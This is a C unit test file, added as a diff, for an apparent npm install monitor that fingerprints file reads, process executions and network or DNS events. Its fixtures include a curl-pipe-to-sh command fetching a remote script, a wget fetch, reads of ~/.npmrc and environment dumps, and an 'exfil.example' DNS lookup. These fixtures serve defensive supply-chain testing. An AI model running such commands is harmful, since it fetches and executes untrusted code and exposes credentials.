@@ -1,0 +1,205 @@
+/*
+ * tests/differ/test_fingerprint.c - one event, one fingerprint.
+ */
+#include <stdlib.h>
+#include <string.h>
+
+#include "helpers.h"
+
+static fangs_event_list evs;
+
+static void setup(void)
+{
+	memset(&evs, 0, sizeof(evs));
+}
+
+static void teardown(void)
+{
+	fangs_event_list_free(&evs);
+}
+
+/* Fingerprints `ev` and checks kind, actor and value. */
+static void expect_fp(const fangs_event *ev, const char *version, fangs_fp_kind kind, fangs_actor actor,
+		      const char *value)
+{
+	fangs_norm_ctx ctx = {"foo", version};
+	fangs_fingerprint fp;
+	int rc = fangs_differ_fingerprint(NULL, &ctx, ev, &fp);
+	ck_assert_msg(rc == 1, "fingerprint rc %d: %s", rc, fangs_error_last());
+	ck_assert_str_eq(fangs_fp_kind_name(fp.kind), fangs_fp_kind_name(kind));
+	ck_assert_str_eq(fangs_actor_name(fp.actor), fangs_actor_name(actor));
+	ck_assert_str_eq(fp.value, value);
+	fangs_fingerprint_clear(&fp);
+	ck_assert_ptr_null(fp.value);
+}
+
+START_TEST(file_opens)
+{
+	expect_fp(t_open(&evs, NULL, "/root/.npmrc", FANGS_OPEN_READ), NULL, FANGS_FP_FS_READ, FANGS_ACTOR_NPM,
+		  "~/.npmrc");
+	expect_fp(t_open(&evs, "foo", "/root/.npmrc", FANGS_OPEN_READ), NULL, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT,
+		  "~/.npmrc");
+	expect_fp(t_open(&evs, "foo", "/tmp/npm-77-a1b2c3d4/out.js", FANGS_OPEN_READ | FANGS_OPEN_WRITE), NULL,
+		  FANGS_FP_FS_WRITE, FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/out.js");
+	expect_fp(t_open(&evs, NULL, "/work/node_modules/foo/lib/foo-2.0.1.js", FANGS_OPEN_WRITE), "2.0.1",
+		  FANGS_FP_FS_WRITE, FANGS_ACTOR_NPM, "/work/node_modules/foo/lib/foo-<version>.js");
+}
+END_TEST
+
+START_TEST(actor_from_origin)
+{
+	fangs_event *ev = t_open(&evs, NULL, "/etc/hosts", FANGS_OPEN_READ);
+	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_NPM);
+	ev->origin.script = strdup("install");
+	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_SCRIPT);
+	ev = t_open(&evs, "bar", "/etc/hosts", FANGS_OPEN_READ);
+	ck_assert_int_eq(fangs_event_actor(ev), FANGS_ACTOR_SCRIPT);
+	ck_assert_int_eq(fangs_event_actor(NULL), FANGS_ACTOR_NPM);
+}
+END_TEST
+
+START_TEST(execs_plain)
+{
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "install.js", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/usr/bin/node");
+	/* a script file is not inline code, even when its own arguments look like flags */
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "scripts/build.js", "-e", "x", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/node");
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/git", "git", "clone", "https://git.example/x.git", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/git");
+	expect_fp(t_exec(&evs, "foo", "/tmp/node-gyp-tmp-Q1w2E3/configure", "./configure", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/tmp/<tmp>/configure");
+	expect_fp(t_exec(&evs, NULL, "/usr/bin/npm", "npm", "install", NULL), NULL, FANGS_FP_EXEC, FANGS_ACTOR_NPM,
+		  "/usr/bin/npm");
+}
+END_TEST
+
+START_TEST(execs_inline_code)
+{
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js");
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "  curl -s\thttp://203.0.113.7/x.sh   |sh\n", NULL),
+		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c curl -s http://203.0.113.7/x.sh |sh");
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c",
+			 "cd /tmp/npm-1234-abcdef && ./build.sh --out=/tmp/tmp-999xyz/out-1714558953123.json "
+			 "2>/proc/31337/fd/2",
+			 NULL),
+		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT,
+		  "/bin/sh -c cd /tmp/<tmp> && ./build.sh --out=/tmp/<tmp>/out-<ts>.json 2>/proc/<pid>/fd/<fd>");
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "-e", "require('./install-1.2.3.js')", NULL), "1.2.3",
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/node -e require('./install-<version>.js')");
+	expect_fp(t_exec(&evs, "foo", "/usr/local/bin/node", "node", "--eval", "process.exit(0)", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/local/bin/node --eval process.exit(0)");
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/node", "node", "-p", "process.arch", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/usr/bin/node -p process.arch");
+	expect_fp(t_exec(&evs, "foo", "/bin/bash", "bash", "-lc", "echo $HOME", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/bin/bash -lc echo $HOME");
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/python3.11", "python3", "-c", "import os; print(os.environ)", NULL),
+		  NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/usr/bin/python3.11 -c import os; print(os.environ)");
+	expect_fp(t_exec(&evs, "foo", "/usr/bin/perl", "perl", "-e", "print 1", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/usr/bin/perl -e print 1");
+	/* busybox: argv[0] names the applet */
+	expect_fp(t_exec(&evs, "foo", "/bin/busybox", "sh", "-c", "wget -qO- http://x.example", NULL), NULL,
+		  FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/busybox -c wget -qO- http://x.example");
+	/* a shell running a script file keeps just the binary */
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "./configure", NULL), NULL, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT,
+		  "/bin/sh");
+	/* the same inline code in different whitespace is one fingerprint */
+	expect_fp(t_exec(&evs, "foo", "/bin/sh", "sh", "-c", "node\n  install.js ", NULL), NULL, FANGS_FP_EXEC,
+		  FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js");
+}
+END_TEST
+
+START_TEST(exec_long_inline_code)
+{
+	char *a = malloc(5000), *b = malloc(5000);
+	fangs_norm_ctx ctx = {"foo", NULL};
+	fangs_fingerprint fa, fb;
+	ck_assert_ptr_nonnull(a);
+	ck_assert_ptr_nonnull(b);
+	memset(a, 'x', 4999);
+	a[4999] = '\0';
+	memcpy(b, a, 5000);
+	b[4990] = 'y';
+	t_exec(&evs, "foo", "/bin/sh", "sh", "-c", a, NULL);
+	t_exec(&evs, "foo", "/bin/sh", "sh", "-c", b, NULL);
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, &ctx, &evs.items[0], &fa), 1);
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, &ctx, &evs.items[1], &fb), 1);
+	/* cut, but what lies past the cut still tells them apart */
+	ck_assert_uint_lt(strlen(fa.value), 1200);
+	ck_assert_ptr_nonnull(strstr(fa.value, "...#"));
+	ck_assert_str_ne(fa.value, fb.value);
+	fangs_fingerprint_clear(&fa);
+	fangs_fingerprint_clear(&fb);
+	free(a);
+	free(b);
+}
+END_TEST
+
+START_TEST(network)
+{
+	fangs_event *ev;
+	expect_fp(t_connect(&evs, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET,
+		  FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp");
+	expect_fp(t_connect(&evs, "foo", "::ffff:203.0.113.7", 443, FANGS_PROTO_TCP), NULL, FANGS_FP_NET,
+		  FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp");
+	expect_fp(t_connect(&evs, NULL, "2001:0db8::0001", 53, FANGS_PROTO_UDP), NULL, FANGS_FP_NET,
+		  FANGS_ACTOR_NPM, "[2001:db8::1]:53/udp");
+	ev = t_connect(&evs, "foo", "/run/user/0/bus", 0, FANGS_PROTO_NONE);
+	ev->family = FANGS_FAMILY_UNIX;
+	expect_fp(ev, NULL, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "unix:/run/user/0/bus");
+	expect_fp(t_dns(&evs, "foo", "Exfil.Example."), NULL, FANGS_FP_DNS, FANGS_ACTOR_SCRIPT, "exfil.example");
+	expect_fp(t_sni(&evs, NULL, "Registry.Example"), NULL, FANGS_FP_SNI, FANGS_ACTOR_NPM, "registry.example");
+}
+END_TEST
+
+START_TEST(no_fingerprint)
+{
+	fangs_event ev;
+	fangs_fingerprint fp;
+	memset(&ev, 0, sizeof(ev));
+	ev.kind = FANGS_EV_PROC_FORK;
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
+	ev.kind = FANGS_EV_PROC_EXIT;
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
+	ev.kind = FANGS_EV_FILE_OPEN; /* no path */
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, &ev, &fp), 0);
+	ck_assert_int_eq(fangs_differ_fingerprint(NULL, NULL, NULL, &fp), FANGS_EINVAL);
+}
+END_TEST
+
+START_TEST(names)
+{
+	fangs_fp_kind k;
+	fangs_actor a;
+	static const char *const kinds[] = {"fs_read", "fs_write", "exec", "net", "dns", "sni"};
+	for (int i = 0; i < FANGS_FP_KIND_COUNT; i++) {
+		ck_assert_str_eq(fangs_fp_kind_name((fangs_fp_kind)i), kinds[i]);
+		ck_assert_int_eq(fangs_fp_kind_parse(kinds[i], &k), 0);
+		ck_assert_int_eq(k, i);
+	}
+	ck_assert_int_eq(fangs_fp_kind_parse("open", &k), FANGS_EINVAL);
+	ck_assert_str_eq(fangs_actor_name(FANGS_ACTOR_NPM), "npm");
+	ck_assert_str_eq(fangs_actor_name(FANGS_ACTOR_SCRIPT), "script");
+	ck_assert_int_eq(fangs_actor_parse("script", &a), 0);
+	ck_assert_int_eq(a, FANGS_ACTOR_SCRIPT);
+	ck_assert_int_eq(fangs_actor_parse("npm", &a), 0);
+	ck_assert_int_eq(a, FANGS_ACTOR_NPM);
+	ck_assert_int_eq(fangs_actor_parse("yarn", &a), FANGS_EINVAL);
+}
+END_TEST
+
+TCase *tcase_fingerprint(void)
+{
+	TCase *tc = tcase_create("fingerprint");
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_add_test(tc, file_opens);
+	tcase_add_test(tc, actor_from_origin);
+	tcase_add_test(tc, execs_plain);
+	tcase_add_test(tc, execs_inline_code);
+	tcase_add_test(tc, exec_long_inline_code);
+	tcase_add_test(tc, network);
+	tcase_add_test(tc, no_fingerprint);
+	tcase_add_test(tc, names);
+	return tc;
+}
